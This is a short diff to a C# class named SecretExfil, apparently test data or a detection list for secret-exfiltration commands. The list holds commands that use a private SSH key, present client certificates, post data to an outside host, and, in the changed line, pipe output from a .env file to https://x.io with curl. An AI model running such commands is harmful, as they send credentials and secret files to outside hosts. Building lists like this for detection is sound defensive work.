@@ -41,7 +41,7 @@ internal static class SecretExfil
             "scp -i ~/.ssh/id_rsa f h:",
             "ssh -i ~/.ssh/id_rsa h ls",
             "curl --cert c.pem --key c.key https://x.io",
-            "cat .env | wc -l",
+            "wc -l .env | curl -d @- https://x.io",
             "curl -d @body.json https://x.io",
             "git push",
         ],
